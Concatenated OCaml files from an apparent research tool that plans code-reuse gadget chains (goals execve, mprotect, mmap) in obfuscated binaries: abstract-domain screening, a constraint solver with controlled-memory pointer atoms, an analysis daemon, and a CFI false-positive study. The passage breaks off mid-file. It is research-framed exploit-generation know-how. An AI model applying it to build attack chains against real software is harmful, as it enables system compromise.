let ule a b = Int64.unsigned_compare a b <= 0
let ult a b = Int64.unsigned_compare a b < 0
let umin a b = if ule a b then a else b
let umax a b = if ule a b then b else a

let top = { kmask = 0L; kval = 0L; lo = 0L; hi = -1L }

let of_const c = { kmask = -1L; kval = c; lo = c; hi = c }

let is_const a = a.kmask = -1L || a.lo = a.hi

let const_of a =
  if a.kmask = -1L then Some a.kval
  else if a.lo = a.hi then Some a.lo
  else None

(* Membership — the γ of the Galois connection, used by the soundness
   property and by the screen's own double-checks. *)
let mem x a =
  Int64.logand x a.kmask = a.kval && ule a.lo x && ule x a.hi

(* Normalize: a singleton interval upgrades the known bits and vice
   versa; inconsistent components cannot arise from sound transfer
   functions but are clamped to a safe form anyway. *)
let make ~kmask ~kval ~lo ~hi =
  let kval = Int64.logand kval kmask in
  let lo, hi = if ule lo hi then (lo, hi) else (0L, -1L) in
  if lo = hi then { kmask = -1L; kval = lo; lo; hi }
  else if kmask = -1L then { kmask; kval; lo = kval; hi = kval }
  else { kmask; kval; lo; hi }

(* Number of trailing bits known in [a] (the low-bit run carries exact
   low-order arithmetic through add/sub/mul). *)
let trailing_known a =
  let n = ref 0 in
  while !n < 64 && Int64.logand (Int64.shift_right_logical a.kmask !n) 1L = 1L do
    incr n
  done;
  !n

let low_mask n =
  if n >= 64 then -1L else Int64.sub (Int64.shift_left 1L n) 1L

let ctz64 v =
  if v = 0L then 64
  else begin
    let n = ref 0 in
    while Int64.logand (Int64.shift_right_logical v !n) 1L = 0L do
      incr n
    done;
    !n
  end

(* ----- transfer functions ----- *)

let add a b =
  match (const_of a, const_of b) with
  | Some x, Some y -> of_const (Int64.add x y)
  | _ ->
    let t = min (trailing_known a) (trailing_known b) in
    let m = low_mask t in
    let kval = Int64.logand (Int64.add a.kval b.kval) m in
    (* no-wrap interval: hi_a + hi_b must not overflow *)
    let lo, hi =
      if ule a.hi (Int64.sub (-1L) b.hi) then
        (Int64.add a.lo b.lo, Int64.add a.hi b.hi)
      else (0L, -1L)
    in
    make ~kmask:m ~kval ~lo ~hi

let neg a =
  match const_of a with
  | Some x -> of_const (Int64.neg x)
  | None ->
    let t = trailing_known a in
    let m = low_mask t in
    make ~kmask:m ~kval:(Int64.logand (Int64.neg a.kval) m) ~lo:0L ~hi:(-1L)

let sub a b =
  match (const_of a, const_of b) with
  | Some x, Some y -> of_const (Int64.sub x y)
  | _ ->
    let t = min (trailing_known a) (trailing_known b) in
    let m = low_mask t in
    let kval = Int64.logand (Int64.sub a.kval b.kval) m in
    (* no-borrow interval: lo_a - hi_b cannot go below zero *)
    let lo, hi =
      if ule b.hi a.lo then (Int64.sub a.lo b.hi, Int64.sub a.hi b.lo)
      else (0L, -1L)
    in
    make ~kmask:m ~kval ~lo ~hi

let mul a b =
  match (const_of a, const_of b) with
  | Some x, Some y -> of_const (Int64.mul x y)
  | _ ->
    (* Write a = ka + 2^ta*s, b = kb + 2^tb*u with za/zb the trailing
       zeros of ka/kb (capped at ta/tb).  Every cross term of the
       product has at least min(za+tb, zb+ta) trailing zeros, so the
       low min(za+tb, zb+ta) bits of a*b equal those of ka*kb — in
       particular multiplying anything by 8 pins three zero bits, the
       alignment fact the prove_equal screen feeds on. *)
    let ta = trailing_known a and tb = trailing_known b in
    let za = min ta (ctz64 a.kval) and zb = min tb (ctz64 b.kval) in
    let t = min 64 (min (za + tb) (zb + ta)) in
    let m = low_mask t in
    make ~kmask:m ~kval:(Int64.logand (Int64.mul a.kval b.kval) m) ~lo:0L
      ~hi:(-1L)

let lognot a =
  make ~kmask:a.kmask
    ~kval:(Int64.logand (Int64.lognot a.kval) a.kmask)
    ~lo:(Int64.lognot a.hi) ~hi:(Int64.lognot a.lo)

let known_zeros a = Int64.logand a.kmask (Int64.lognot a.kval)
let known_ones a = Int64.logand a.kmask a.kval

(* All bits at or below the highest set bit of [v]. *)
let smear v =
  let v = Int64.logor v (Int64.shift_right_logical v 1) in
  let v = Int64.logor v (Int64.shift_right_logical v 2) in
  let v = Int64.logor v (Int64.shift_right_logical v 4) in
  let v = Int64.logor v (Int64.shift_right_logical v 8) in
  let v = Int64.logor v (Int64.shift_right_logical v 16) in
  Int64.logor v (Int64.shift_right_logical v 32)

let logand a b =
  let kmask =
    Int64.logor
      (Int64.logand a.kmask b.kmask)
      (Int64.logor (known_zeros a) (known_zeros b))
  in
  let kval = Int64.logand (Int64.logand a.kval b.kval) kmask in
  make ~kmask ~kval ~lo:0L ~hi:(umin a.hi b.hi)

let logor a b =
  let kmask =
    Int64.logor
      (Int64.logand a.kmask b.kmask)
      (Int64.logor (known_ones a) (known_ones b))
  in
  let kval = Int64.logand (Int64.logor a.kval b.kval) kmask in
  make ~kmask ~kval ~lo:(umax a.lo b.lo)
    ~hi:(Int64.logor (smear a.hi) (smear b.hi))

let logxor a b =
  let kmask = Int64.logand a.kmask b.kmask in
  make ~kmask
    ~kval:(Int64.logand (Int64.logxor a.kval b.kval) kmask)
    ~lo:0L
    ~hi:(Int64.logor (smear a.hi) (smear b.hi))

(* Shift amounts mirror [Term.eval]: the count is the operand mod 64. *)
let shift_amount b = Option.map (fun k -> Int64.to_int (Int64.logand k 63L)) (const_of b)

let shl a b =
  match shift_amount b with
  | None -> top
  | Some k -> (
    match const_of a with
    | Some x -> of_const (Int64.shift_left x k)
    | None ->
      let kmask = Int64.logor (Int64.shift_left a.kmask k) (low_mask k) in
      let kval = Int64.shift_left a.kval k in
      let lo, hi =
        if k = 0 then (a.lo, a.hi)
        else if ule a.hi (Int64.shift_right_logical (-1L) k) then
          (Int64.shift_left a.lo k, Int64.shift_left a.hi k)
        else (0L, -1L)
      in
      make ~kmask ~kval ~lo ~hi)

let shr a b =
  match shift_amount b with
  | None -> top
  | Some k ->
    let kmask =
      Int64.logor
        (Int64.shift_right_logical a.kmask k)
        (Int64.lognot (Int64.shift_right_logical (-1L) k))
    in
    make ~kmask
      ~kval:(Int64.shift_right_logical a.kval k)
      ~lo:(Int64.shift_right_logical a.lo k)
      ~hi:(Int64.shift_right_logical a.hi k)

let sar a b =
  match shift_amount b with
  | None -> top
  | Some k -> (
    match const_of a with
    | Some x -> of_const (Int64.shift_right x k)
    | None ->
      let sign_known = Int64.logand a.kmask Int64.min_int <> 0L in
      let kmask =
        Int64.logor
          (Int64.shift_right_logical a.kmask k)
          (if sign_known && k > 0 then
             Int64.lognot (Int64.shift_right_logical (-1L) k)
           else 0L)
      in
      (* arithmetic shift of kval replicates kval's bit 63, which is the
         known sign when [sign_known]; otherwise the fill bits fall
         outside [kmask] and are masked off by [make] *)
      make ~kmask ~kval:(Int64.shift_right a.kval k) ~lo:0L ~hi:(-1L))

(* ----- term evaluation, memoized per interned node ----- *)

(* Domain-local memo: abstract values are pure functions of term
   structure (variables are top), so per-domain tables agree wherever
   they overlap and need no lock — this sits on the screening hot path
   (one lookup per node of every screened query), where a shared table
   would serialize the worker domains on a mutex.  A stale or missing
   entry can only cost a recomputation, never change an answer. *)
let memo_key : (Term.t, t) Hashtbl.t Domain.DLS.key =
  Domain.DLS.new_key (fun () -> Hashtbl.create 4096)

let rec eval_term (t : Term.t) : t =
  match t with
  | Term.Var _ -> top
  | Term.Const c -> of_const c
  | Term.Add (x, y) -> add (of_term x) (of_term y)
  | Term.Sub (x, y) -> sub (of_term x) (of_term y)
  | Term.Mul (x, y) -> mul (of_term x) (of_term y)
  | Term.Neg x -> neg (of_term x)
  | Term.Not x -> lognot (of_term x)
  | Term.And (x, y) -> logand (of_term x) (of_term y)
  | Term.Or (x, y) -> logor (of_term x) (of_term y)
  | Term.Xor (x, y) -> logxor (of_term x) (of_term y)
  | Term.Shl (x, y) -> shl (of_term x) (of_term y)
  | Term.Shr (x, y) -> shr (of_term x) (of_term y)
  | Term.Sar (x, y) -> sar (of_term x) (of_term y)

and of_term (t : Term.t) : t =
  match t with
  | Term.Var _ -> top
  | Term.Const c -> of_const c
  | _ -> (
    let tbl = Domain.DLS.get memo_key in
    match Hashtbl.find_opt tbl t with
    | Some v -> v
    | None ->
      let v = eval_term t in
      Hashtbl.add tbl t v;
      v)

(* Clears the CALLING domain's table.  Entries are never wrong, so a
   worker domain keeping its table across a reset is harmless; this
   exists for the benchmarks' memory hygiene, not for correctness. *)
let reset () = Hashtbl.reset (Domain.DLS.get memo_key)

(* ----- comparisons over abstract values ----- *)

(* No common concretization: disjoint intervals, or a bit known in both
   with opposite values.  Disjointness means the two terms DIFFER under
   every valuation — the basis for refuting [prove_equal]. *)
let disjoint a b =
  ult a.hi b.lo || ult b.hi a.lo
  || Int64.logand (Int64.logand a.kmask b.kmask) (Int64.logxor a.kval b.kval)
     <> 0L

type verdict = Yes | No | Maybe

(* Signed bounds are derivable only when the unsigned interval does not
   straddle the sign boundary. *)
let signed_bounds a =
  if Int64.logxor a.lo a.hi >= 0L then Some (a.lo, a.hi) else None

let cmp_u a b =
  if ult a.hi b.lo then Yes
  else if ule b.hi a.lo then No
  else Maybe

let cmp_ule a b =
  if ule a.hi b.lo then Yes
  else if ult b.hi a.lo then No
  else Maybe

(* Definite truth value of an atom, or [Maybe].  [Readable]/[Writable]
   depend on the pointer pool (opaque predicates), so they are always
   [Maybe] here.  Soundness: [Yes]/[No] answers agree with
   [Formula.eval] under EVERY model (property-tested). *)
let formula (f : Formula.t) : verdict =
  match f with
  | Formula.True -> Yes
  | Formula.False -> No
  | Formula.Eq (x, y) ->
    let a = of_term x and b = of_term y in
    if disjoint a b then No
    else (
      match (const_of a, const_of b) with
      | Some u, Some v when u = v -> Yes
      | _ -> Maybe)
  | Formula.Ne (x, y) ->
    let a = of_term x and b = of_term y in
    if disjoint a b then Yes
    else (
      match (const_of a, const_of b) with
      | Some u, Some v when u = v -> No
      | _ -> Maybe)
  | Formula.Ult (x, y) -> cmp_u (of_term x) (of_term y)
  | Formula.Ule (x, y) -> cmp_ule (of_term x) (of_term y)
  | Formula.Slt (x, y) -> (
    match (signed_bounds (of_term x), signed_bounds (of_term y)) with
    | Some (_, ahi), Some (blo, _) when Int64.compare ahi blo < 0 -> Yes
    | Some (alo, _), Some (_, bhi) when Int64.compare bhi alo <= 0 -> No
    | _ -> Maybe)
  | Formula.Sle (x, y) -> (
    match (signed_bounds (of_term x), signed_bounds (of_term y)) with
    | Some (_, ahi), Some (blo, _) when Int64.compare ahi blo <= 0 -> Yes
    | Some (alo, _), Some (_, bhi) when Int64.compare bhi alo < 0 -> No
    | _ -> Maybe)
  | Formula.Readable _ | Formula.Writable _ -> Maybe
