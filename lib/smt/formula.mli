(** Atomic constraints over bit-vector terms.

    [Readable]/[Writable] implement the paper's POINTER constraint type
    (§IV-B): a term must evaluate to an address in a readable/writable
    region.  The solver discharges them by binding free variables to
    addresses from a caller-supplied pool of controlled memory. *)

type t =
  | True
  | False
  | Eq of Term.t * Term.t
  | Ne of Term.t * Term.t
  | Slt of Term.t * Term.t   (** signed < *)
  | Sle of Term.t * Term.t
  | Ult of Term.t * Term.t   (** unsigned < *)
  | Ule of Term.t * Term.t
  | Readable of Term.t
  | Writable of Term.t

val to_string : t -> string

val negate : t -> t
(** Logical negation.  Pointer atoms are returned unchanged (they have no
    useful negation in this fragment). *)

val map_terms : (Term.t -> Term.t) -> t -> t

val vars : t -> Term.Vset.t

val ult : int64 -> int64 -> bool
(** Unsigned 64-bit comparison helper. *)

val eval :
  ?readable:(int64 -> bool) ->
  ?writable:(int64 -> bool) ->
  (string -> int64) ->
  t ->
  bool
(** Truth under a concrete valuation.  [readable]/[writable] decide the
    pointer atoms and default to "anything goes". *)

val simplify : t -> t
(** Canonicalize both sides and constant-fold ([Eq] of equal canonical
    terms becomes [True], comparisons of constants are decided, ...). *)

(** {1 Stable binary serialization}

    One tag byte per atom, terms via {!Term.Ser} (so the bytes are a
    function of structure alone — see DESIGN.md §11). *)

val put : Term.Ser.writer -> Buffer.t -> t -> unit
val get : Term.Ser.reader -> string -> int ref -> t
val put_list : Term.Ser.writer -> Buffer.t -> t list -> unit
val get_list : Term.Ser.reader -> string -> int ref -> t list
