(** Constraint solver for gadget chaining.

    Replaces Z3 for the fragment that actually arises (DESIGN.md §2):
    conjunctions of equalities over 64-bit linear terms (decided exactly
    by Gaussian elimination over Z/2{^64}), POINTER atoms (discharged by
    pinning free pointer variables into controlled memory — including
    through power-of-two coefficients, the [table + 8*index] jump-table
    pattern), and a randomized/special-value model search for the rest.

    Soundness contract: [Unsat] is only reported when the linear core is
    provably inconsistent with no pinning choices involved; [Sat] always
    carries a model re-checked against every atom.  The incomplete answer
    is [Unknown]. *)

module Smap : Map.S with type key = string

type model = int64 Smap.t

val model_fn : model -> string -> int64
(** Valuation function of a model; unmapped variables read as 0. *)

type result = Sat of model | Unsat | Unknown

(** Pointer-atom discharge pool: [pins] are candidate addresses a free
    pointer variable may be bound to; [readable]/[writable] are the
    (wider) predicates any concrete address must satisfy. *)
type pointer_pool = {
  pins : int64 list;
  readable : int64 -> bool;
  writable : int64 -> bool;
}

val default_pool : pointer_pool
(** Points into the emulator's scratch region. *)

val inv64 : int64 -> int64
(** Inverse of an odd number mod 2{^64} (Newton iteration); raises
    [Invalid_argument] on even input. *)

val chaos_unknown : (Formula.t list -> bool) ref
(** Fault-injection hook: when the predicate answers true for a query,
    {!check} abandons it as [Unknown] before any reasoning — and before
    the memo cache, so injected verdicts are never cached.  The
    predicate receives the raw formula list, letting the harness key
    the decision on the query itself (order-independent under
    parallelism).  [Unknown] is always sound, so injection can only
    degrade results, never corrupt them.  Installed/removed by the
    harness ([Gp_harness.Faultsim]); defaults to never firing. *)

val unknowns : int Atomic.t
(** Running count of [Unknown] verdicts, injected or genuine — counted
    per query ANSWERED (memo hits included), so the tally depends only
    on the query sequence, not on cache temperature.  Atomic because
    worker domains answer queries concurrently.  The pipeline snapshots
    it around each stage to attribute solver indecision in its stats. *)

(** {1 Screening front-end (DESIGN.md §12)}

    Three cheap tiers in front of the solver proper: abstract screening
    over {!Absdom} (Tier A), concrete refutation under a fixed vector
    of adversarial valuations (Tier B), and shared-prefix reuse of the
    Gaussian-elimination fold plus residual-search outcomes (Tier C).  Every tier only short-circuits
    a query when the verdict it returns is the one the fall-through
    path would produce at the consuming call site, so results are
    bit-identical with screening on or off at any job count.  Counters
    are bumped per query answered, before any memo lookup — the same
    discipline as {!unknowns} — so the tallies depend only on the query
    sequence (the exception is {!screen_stats}' [elim_reused], which
    like cache hit counts depends on cache temperature). *)

val screen_enabled : unit -> bool

val set_screen_enabled : bool -> unit
(** Ablation toggle (the [--no-screen] flag), mirroring
    {!Term.set_memo_enabled}: disabling restores the seed's uncached,
    unscreened behavior exactly. *)

val screen_stats : unit -> int * int * int * int
(** [(screen_refuted, screen_decided, concrete_refuted, elim_reused)]:
    Tier A [prove_equal] refutations, Tier A decided [check]/[entails]
    queries, Tier B concrete refutations, and Tier C queries that
    reused at least one memoized elimination step or a memoized
    residual-search outcome. *)

val reset_screen : unit -> unit
(** Clear the elimination trie, the residual-search memo, the
    abstract-value memo, and the four screening counters (benchmarks'
    cold-path resets). *)

val memo : (Formula.t list, result) Cache.t
(** Memo store for {!check} verdicts on default-environment queries
    (no caller rng/pool/trial overrides), keyed on the canonicalized
    conjunction.  Exposed for cache statistics and for benchmarks that
    need cold-cache timings ({!Cache.reset}/{!Cache.set_enabled}). *)

val equal_memo : (Term.t * Term.t, bool) Cache.t
(** Memo store for {!prove_equal} on default-environment queries, keyed
    on the (structurally ordered) simplified term pair. *)

val pool_memo : ((int64 * int) * Formula.t list, result) Cache.t
(** Memo store for {!check} queries against caller-keyed pointer pools
    (see the [pool_key] argument of {!check}); keyed on
    [(pool_key, canonicalized conjunction)]. *)

val check :
  ?rng:Gp_util.Rng.t ->
  ?pool:pointer_pool ->
  ?pool_key:int64 * int ->
  ?max_trials:int ->
  Formula.t list ->
  result
(** Satisfiability of the conjunction.  The model prefers zeros for
    otherwise-unconstrained variables (keeping payloads and register
    demands simple).

    [pool_key] is the caller's promise that the supplied [pool] is a
    pure function of that key (e.g. {!Gp_core.Layout.pool_key}): when
    given — and no rng/trial override is in play — the verdict is
    memoized in {!pool_memo} under [(pool_key, canonical formulas)].
    Pools carry closures the solver cannot key on itself, which is why
    the key comes from outside. *)

(** {1 Memo persistence}

    The three memos above are the caches whose keys are pure structural
    data, so they can round-trip through the on-disk store
    ({!Gp_util.Store}, DESIGN.md §11).  A stored verdict is a pure
    function of its canonical key, so importing can only skip solves,
    never change one. *)

val memo_section_names : string list
(** Store-section names owned by this module. *)

val memo_count : unit -> int
(** Total entries across the check/equal/pool memos.  O(1); memos are
    add-only within a run, so an unchanged count means no delta to
    export — checkpointing uses this to skip the serializing scan. *)

val export_memos : unit -> Gp_util.Store.section list
(** Serialize the check/equal/pool memos, entries sorted by serialized
    key (deterministic file bytes). *)

val import_memos : Gp_util.Store.section list -> int
(** Pre-seed the memos from store sections (unknown section names are
    ignored, existing entries win); returns the number of entries
    consumed.  Raises [Gp_util.Store.Bin.Truncated] on malformed entry
    bytes — unreachable for files that passed the store's checksums, and
    callers demote it to a cold run regardless. *)

val put_result : Term.Ser.writer -> Buffer.t -> result -> unit
val get_result : Term.Ser.reader -> string -> int ref -> result
(** Verdict (de)serialization, exposed for the property tests. *)

val entails : ?rng:Gp_util.Rng.t -> ?pool:pointer_pool -> Formula.t list -> Formula.t -> bool
(** [entails hyps concl]: true only when [hyps ∧ ¬concl] is provably
    unsat.  [Unknown] counts as "not entailed" — conservative for
    subsumption, which then merely keeps more gadgets. *)

val prove_equal : ?rng:Gp_util.Rng.t -> ?trials:int -> Term.t -> Term.t -> bool
(** Probabilistic semantic equality: canonical forms equal, or no
    counterexample in [trials] random evaluations.  Unsoundness here only
    costs pool diversity and is caught downstream by emulator validation
    of payloads. *)
