(* Batched multi-point concrete evaluation: walk each term once
   carrying all screen-point lanes, memoized per hash-consed node
   (DESIGN.md §17).  The primitive under semantic fingerprints. *)

(* The Tier B valuation family (moved here from [Solver] so the screen
   and the fingerprints share one point set by construction). *)
type point = Fill of int64 | Mix of int64

val points : point array
val nlanes : int

(* All-lanes-set formula mask, [(1 lsl nlanes) - 1]. *)
val full_mask : int

val mix64 : int64 -> int64

(* The concrete model lane k induces: [point_model points.(k)]. *)
val point_model : point -> string -> int64

(* Ablation toggle (--no-fp): consumers fall back to per-point
   [Term.eval] walks.  Verdict-preserving by contract. *)
val enabled : unit -> bool
val set_enabled : bool -> unit

(* Probes refuted from fingerprints alone.  Jobs- and
   temperature-invariant (bumped per probe answered, before any memo). *)
val note_refuted : unit -> unit
val refutations : unit -> int

(* A term's value on every lane; [closed] <=> the term has no
   variables (same value under EVERY valuation, not just the lanes). *)
type lanes = { lv : int64 array; closed : bool }

(* Lane k equals [Term.eval (point_model points.(k)) t].  One
   traversal for all lanes, memoized per node, domain-local. *)
val eval : Term.t -> lanes

(* Bit k set <=> the formula/conjunction holds under lane k's
   valuation, deciding pointer atoms with [readable]/[writable]
   (default "anything goes", mirroring [Formula.eval]). *)
val formula_mask :
  ?readable:(int64 -> bool) -> ?writable:(int64 -> bool) -> Formula.t -> int

val conj_mask :
  ?readable:(int64 -> bool) ->
  ?writable:(int64 -> bool) ->
  Formula.t list ->
  int

(* Clears the calling domain's memo and the refutation tally. *)
val reset : unit -> unit
