(** Known-bits × wrapped-interval abstract domain over terms — Tier A of
    the solver's screening front-end (DESIGN.md §12).

    Every term is mapped to a sound over-approximation of its value set
    under all variable valuations: a mask of bit positions with known
    values plus an unsigned interval (operations that may wrap widen to
    top).  Soundness invariant, property-tested: for every term [t] and
    model [m], [mem (Term.eval m t) (of_term t)].  Definite answers from
    {!disjoint} and {!formula} therefore hold under EVERY valuation,
    which is what lets the solver use them as screens that only
    short-circuit verdicts the fall-through path would reproduce. *)

type t = private {
  kmask : int64;  (** bit set => that bit is known in every concretization *)
  kval : int64;   (** known bits' values; [kval land kmask = kval] *)
  lo : int64;     (** unsigned lower bound, inclusive *)
  hi : int64;     (** unsigned upper bound, inclusive; [lo <=u hi] *)
}

val top : t
val of_const : int64 -> t

val is_const : t -> bool
val const_of : t -> int64 option

val mem : int64 -> t -> bool
(** Concretization membership (the γ of the Galois connection). *)

val of_term : Term.t -> t
(** Abstract value of a term with all variables unconstrained (top).
    Memoized per hash-consed node; thread-safe. *)

val disjoint : t -> t -> bool
(** No common concretization — the two terms differ under every
    valuation (disjoint intervals or a bit known in both with opposite
    values). *)

type verdict = Yes | No | Maybe

val formula : Formula.t -> verdict
(** Definite truth value of an atom under all valuations, or [Maybe].
    [Readable]/[Writable] atoms are always [Maybe] (their predicates
    live in the caller's pointer pool). *)

val reset : unit -> unit
(** Drop the per-node memo (benchmarks' cold-path resets). *)
