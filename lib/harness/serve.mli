(** Analysis-as-a-service: resident daemon + client (DESIGN.md §15).

    One process keeps the sharded summary table and solver memos
    memory-hot across requests: a Unix-domain socket accepts framed
    ([Gp_util.Frame]) analysis requests and dispatches each as a chain
    of stage tasks on a persistent {!Sched.Service} pool, so concurrent
    requests pipeline across stages.  Durability is the WAL with
    periodic batched checkpoints; a daemon-served report is
    bit-identical to the cold CLI run of the same request. *)

open Gp_core

(** {1 Requests and reports} *)

type request = {
  rq_image : Gp_util.Image.t;  (** the binary under analysis *)
  rq_goal : string;            (** "execve" | "mprotect" | "mmap" *)
  rq_budget_s : float;         (** root budget seconds; 0. = unlimited *)
  rq_max_plans : int;          (** planner knobs, as the CLI's [plan] *)
  rq_node_budget : int;
  rq_time_budget : float;
  rq_branch_cap : int;
  rq_goal_cap : int;
  rq_max_steps : int;
  rq_jobs : int;               (** within-stage domains (default 1) *)
}

val default_request : Gp_util.Image.t -> request
(** Goal "execve", unlimited budget, [Planner.default_config] knobs,
    one within-stage domain. *)

(** The jobs- and temperature-invariant projection of an {!Api.outcome}:
    everything the CLI report prints, minus cache/summary/store
    counters (temperature) and store quarantine labels (resident vs
    cold runs legitimately differ there).  [report_encode] of this is
    the differential unit — daemon vs CLI comparisons are on the
    encoded bytes. *)
type report = {
  sr_pool : int;
  sr_chains : (string * string) list;
      (** per validated chain: (gadget-set key, printable description) *)
  sr_rungs : string list;
  sr_budget_hits : string list;
  sr_quarantined : (string * int) list;
  sr_counters : (string * int) list;
}

val report_of_outcome : Api.outcome -> report
val goal_of_name : string -> Goal.t
(** Same mapping as the CLI. @raise Invalid_argument on unknown names. *)

val planner_config_of : request -> Planner.config

(** {1 Codecs}

    Frame-payload bodies, [Gp_util.Store.Bin] discipline.  Decoders
    raise {!Gp_util.Frame.Truncated} on short or malformed input. *)

val request_encode : request -> string
val request_decode : string -> int ref -> request
val report_encode : report -> string
val report_decode : string -> int ref -> report

(** {1 Reference execution}

    The two must stay bit-identical; the serve suite diffs their
    encoded reports at service jobs 1 and 4. *)

val handle : ?cache_dir:string -> request -> report
(** Inline CLI-path execution: exactly what [gadget_planner plan] runs
    ({!Api.run} with a request-local gadget id source).  [cache_dir]
    is the CLI's --cache-dir — store loaded before, saved after — for
    modeling the durable process-per-request deployment. *)

val request_steps : request -> report Sched.step
(** The same computation cut along the {!Api} stage seams — extract,
    subsume, then the degradation ladder one rung per step — which is
    how the daemon runs it on the service pool. *)

(** {1 Daemon} *)

type config = {
  d_socket : string;           (** Unix-domain socket path *)
  d_cache_dir : string option; (** incremental store (journal mode) *)
  d_jobs : int;                (** service pool workers *)
  d_checkpoint_every : int;    (** checkpoint after this many analyses *)
  d_checkpoint_s : float;      (** ... or this many seconds dirty *)
}

val default_config : socket:string -> config
(** No cache dir, 4 workers, checkpoint every 8 analyses / 5 s. *)

type summary = {
  sm_served : int;                 (** analyses completed *)
  sm_faults : (string * int) list; (** frame-fault quarantine ledger *)
  sm_checkpoints : int;
  sm_fp_hits : int;
  sm_fp_misses : int;
      (** fingerprint store traffic over the daemon's lifetime
          (temperature counters — reported in the ledger only, never
          in the invariant reply counters) *)
  sm_fp_refuted : int;
      (** solver probes refuted from fingerprints alone (DESIGN.md
          §17); warm/cold-invariant like the verdicts it mirrors *)
  sm_mode : string;                (** "journaling" | "read-only: _" | "memory" *)
}

val serve : config -> summary
(** Run the daemon until a [Shutdown] request: load the store once
    (journal mode — the dir's advisory lock is held for the daemon's
    life, so concurrent CLI writers demote to read-only), accept
    framed requests, checkpoint on the dirty-count/timer policy, and
    on shutdown drain in-flight analyses and compact the journal.

    Wire damage is quarantined per the {!Fail.Frame_fault} labels and
    the offending connection dropped; resident caches never see a
    request that did not parse.  [Faultsim.Crashed] (or any handler
    bug) is NOT caught: the journal is abandoned — on-disk state frozen
    as at the crash — and the exception re-raised. *)

(** {1 Client} *)

type daemon_stats = {
  ds_served : int;
  ds_faults : (string * int) list;
  ds_checkpoints : int;
  ds_incr_size : int;     (** resident summary entries *)
  ds_memo_entries : int;  (** resident solver-memo entries *)
  ds_fp_hits : int;       (** fingerprint store hits (temperature) *)
  ds_fp_misses : int;
  ds_fp_refuted : int;    (** probes refuted from fingerprints (§17) *)
  ds_mode : string;
}

module Client : sig
  type t

  val connect : string -> (t, string) result
  val close : t -> unit

  val submit : t -> request -> (report, Fail.t) result
  (** One analysis round-trip.  The send path applies any installed
      [Frame.chaos_wire] schedule; injected faults surface as
      [Fail.Frame_fault] here and in the daemon's ledger.  Multiple
      requests per connection are fine. *)

  val stats : t -> (daemon_stats, Fail.t) result
  val shutdown : t -> (unit, Fail.t) result
end
