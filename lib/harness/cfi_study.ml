(* CFI-infeasibility study (supports the threat model, paper §III-A).

   The paper assumes obfuscated binaries run without CFI because "the
   control flow in obfuscated programs is heavily mangled, which breaks
   the fundamental assumptions of these defense methods, leading to
   overwhelming false positives".  This experiment quantifies that claim
   on our substrate:

   - POLICY: the classic coarse-grained forward-edge CFI — an indirect
     jump or call may only target a FUNCTION ENTRY (what a binary-level
     CFI enforcer can whitelist without source).
   - MEASUREMENT: run each program on its benign input and count the
     indirect transfers the policy would flag.

   Original programs make no indirect transfers at all (no violations,
   and CFI deploys cleanly).  Obfuscated programs dispatch through jump
   tables whose targets are basic blocks, not function entries — every
   such transfer is a false positive, so a deployed CFI monitor would
   kill the legitimate program immediately. *)

type row = {
  cfi_program : string;
  cfi_config : string;
  cfi_transfers : int;      (* indirect transfers executed *)
  cfi_violations : int;     (* flagged by the entry-only policy *)
  cfi_completed : bool;     (* benign run finished within fuel *)
}

let run_one ?(budget = Gp_core.Budget.unlimited ())
    (entry : Gp_corpus.Programs.entry) (cname, cfg) : row =
  let image =
    Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform cfg)
      entry.Gp_corpus.Programs.source
  in
  let allowed =
    List.filter_map
      (fun (s : Gp_util.Image.symbol) ->
        if Gp_util.Image.in_code image s.Gp_util.Image.sym_addr then
          Some s.Gp_util.Image.sym_addr
        else None)
      image.Gp_util.Image.symbols
  in
  let m = Gp_emu.Machine.create image in
  Gp_emu.Memory.write64 m.Gp_emu.Machine.mem Gp_corpus.Netperf.input_area 2L;
  let fuel = Gp_core.Budget.emu_fuel ~cap:40_000_000 budget in
  (* a Timeout row (cfi_completed = false) still counts the transfers
     executed so far, but must not masquerade as a finished benign run *)
  let outcome = Gp_emu.Machine.run ~fuel m in
  let transfers = List.length m.Gp_emu.Machine.indirects in
  let violations =
    List.length
      (List.filter
         (fun (_, target) -> not (List.mem target allowed))
         m.Gp_emu.Machine.indirects)
  in
  { cfi_program = entry.Gp_corpus.Programs.name;
    cfi_config = cname;
    cfi_transfers = transfers;
    cfi_violations = violations;
    cfi_completed = (match outcome with
                     | Gp_emu.Machine.Timeout -> false
                     | _ -> true) }

let study ?(entries = List.map Gp_corpus.Programs.find
                        [ "bubble_sort"; "crc_check"; "fibonacci"; "stack_machine" ])
    ?budget () =
  let rows =
    List.concat_map
      (fun entry -> List.map (run_one ?budget entry) Workspace.obf_configs)
      entries
  in
  let t =
    Table.create
      ~title:
        "CFI study: benign-run indirect transfers flagged by entry-only CFI"
      ~header:[ "program"; "config"; "indirect transfers"; "violations"; "run" ]
  in
  List.iter
    (fun r ->
      Table.add_row t
        [ r.cfi_program; r.cfi_config; string_of_int r.cfi_transfers;
          string_of_int r.cfi_violations;
          (if r.cfi_completed then "done" else "timeout") ])
    rows;
  (Table.render t, rows)
