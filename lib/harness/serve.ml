(* Analysis-as-a-service: the resident daemon (DESIGN.md §15).

   Every CLI invocation is a cold process: it loads the incremental
   store, analyzes one (binary, config, goal) cell, saves, and dies —
   the PR-4 summaries and the solver memos are disk-hot but never
   memory-hot across requests.  This module keeps one process resident:
   a Unix-domain socket accepts a stream of framed requests
   ([Gp_util.Frame]: length-prefixed, FNV-checksummed), each carrying a
   binary image, a goal, and planner knobs; requests are dispatched
   onto a persistent [Sched.Service] work-stealing pool as chains of
   stage tasks, so one request's plan stage overlaps another's extract.
   The sharded [Incr] summary table and solver memos are loaded once at
   startup and stay hot; durability is the PR-6 WAL with periodic
   batched checkpoints instead of a per-request save.

   Determinism: a served request draws gadget ids from a local source
   ([Gadget.local_ids]) and runs the exact [Api.run] degradation ladder
   — staged along the same seams as the corpus scheduler — so the
   response is bit-identical to a cold CLI run of the same request (the
   serve suite diffs the encoded reports at jobs 1 and 4).

   Failure model: wire damage (torn frame, checksum mismatch, client
   hangup) is quarantined per connection under the [Fail.Frame_fault]
   labels and the connection dropped — resident caches are never
   touched by a request that did not parse.  [Faultsim.Crashed] is
   never caught: it aborts the pool, unwinds through [serve]'s
   [journal_abandon] teardown, and re-raises, exactly like a crashed
   sweep. *)

open Gp_core
module B = Gp_util.Store.Bin
module Frame = Gp_util.Frame

(* ----- request / report payloads ----- *)

type request = {
  rq_image : Gp_util.Image.t;  (* the binary under analysis *)
  rq_goal : string;            (* "execve" | "mprotect" | "mmap" *)
  rq_budget_s : float;         (* 0. = unlimited *)
  rq_max_plans : int;
  rq_node_budget : int;
